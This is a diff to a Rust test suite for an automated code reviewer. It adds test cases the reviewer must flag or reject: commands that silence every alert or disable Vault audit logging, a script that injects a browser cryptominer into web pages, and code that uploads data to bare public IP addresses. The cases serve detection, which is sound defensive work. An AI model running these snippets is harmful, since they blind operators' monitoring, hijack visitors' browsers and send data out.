@@ -3591,8 +3591,8 @@ fn deletions_in_bulk_need_a_human(
 }
 
 /// Asserts what the built-in reviewer says of `source` under a profile
-/// whose egress proxy lets HTTP clients out: `expected`'s finding (MAJOR)
-/// on its line, or APPROVE.
+/// whose egress proxy lets HTTP clients out: `expected`'s finding on its
+/// line (MAJOR, or REJECTED for a miner), or APPROVE.
 fn judged_under_egress(lang: crate::Lang, source: &str, expected: Option<(&str, usize)>) {
     let parsed = crate::parse::parse(lang, source).expect("parses");
     let sanitized = crate::sanitize::sanitize(&parsed.walked());
@@ -3602,8 +3602,15 @@ fn judged_under_egress(lang: crate::Lang, source: &str, expected: Option<(&str, 
         &sanitized.literals,
         &sanitized.renamed,
     );
+    let verdict = |id: &str| {
+        if id == "run-miner" {
+            Verdict::Rejected
+        } else {
+            Verdict::Major
+        }
+    };
     match expected {
-        Some((id, line)) => assert_finding(&answer, Verdict::Major, id, line),
+        Some((id, line)) => assert_finding(&answer, verdict(id), id, line),
         None => assert_eq!(answer.verdict, Verdict::Approve, "{answer:?}"),
     }
 }
@@ -3737,6 +3744,69 @@ fn cloud_operations_need_a_human(
     None
 )]
 fn a_secret_file_sent_whole_needs_a_human(
+    #[case] lang: crate::Lang,
+    #[case] source: &str,
+    #[case] expected: Option<(&str, usize)>,
+) {
+    judged_under_egress(lang, source, expected);
+}
+
+/// Alerting silenced wholesale, a miner for visitors' browsers, and an
+/// endpoint named by a public IP address, in each language they were
+/// met in; their ordinary counterparts are approved.
+#[rstest]
+#[case::sh_every_alert_silenced(
+    crate::Lang::Bash,
+    "amtool silence add 'alertname=~\".+\"' --duration=720h --comment=rollout\n",
+    Some(("disables-monitoring", 1))
+)]
+#[case::sh_silence_body_in_a_here_document(
+    crate::Lang::Bash,
+    "curl -fsS -X POST \"$AM/api/v2/silences\" -d @- <<JSON\n{\"matchers\": [{\"name\": \"alertname\", \"value\": \".+\", \"isRegex\": true}]}\nJSON\n",
+    Some(("disables-monitoring", 2))
+)]
+#[case::sh_vault_audit_disabled(
+    crate::Lang::Bash,
+    "vault audit disable file/\n",
+    Some(("disables-monitoring", 1))
+)]
+#[case::ts_every_monitor_muted(
+    crate::Lang::TypeScript,
+    "await api.createDowntime({ body: { data: { attributes: { scope: \"*\", schedule: { end } }, type: \"downtime\" } } });\n",
+    Some(("disables-monitoring", 1))
+)]
+#[case::js_browser_miner_in_pages(
+    crate::Lang::JavaScript,
+    "const snippet = `<script>new CNWorker.Anonymous(\"SITEKEY\", { throttle: 0.1 }).start();</script>`;\nfs.writeFileSync(page, html.replace(\"</body>\", snippet + \"</body>\"));\n",
+    Some(("run-miner", 1))
+)]
+#[case::py_data_posted_to_an_address(
+    crate::Lang::Python,
+    "import requests\nrequests.post(\"http://203.0.113.31/ingest\", json=report, timeout=5)\n",
+    Some(("names-bare-ip-endpoint", 2))
+)]
+#[case::sh_server_defaulting_to_an_address(
+    crate::Lang::Bash,
+    "SERVER=${SERVER:-http://203.0.113.95:8080}\ncurl -fsS -T out.tgz \"$SERVER/cache/x.tgz\"\n",
+    Some(("names-bare-ip-endpoint", 1))
+)]
+#[case::sh_one_alert_silenced(
+    crate::Lang::Bash,
+    "amtool silence add alertname=DiskFull --duration=2h --comment=resize\n",
+    None
+)]
+#[case::sh_vault_audit_listed(crate::Lang::Bash, "vault audit list -detailed\n", None)]
+#[case::ts_staging_monitors_muted(
+    crate::Lang::TypeScript,
+    "await api.createDowntime({ body: { data: { attributes: { scope: \"env:staging\", schedule: { end } }, type: \"downtime\" } } });\n",
+    None
+)]
+#[case::py_local_and_private_addresses(
+    crate::Lang::Python,
+    "import requests\nrequests.get(\"http://127.0.0.1:8080/health\", timeout=2)\nrequests.get(\"http://10.0.3.7:9200/_cluster/health\", timeout=2)\n",
+    None
+)]
+fn monitoring_miners_and_bare_addresses(
     #[case] lang: crate::Lang,
     #[case] source: &str,
     #[case] expected: Option<(&str, usize)>,
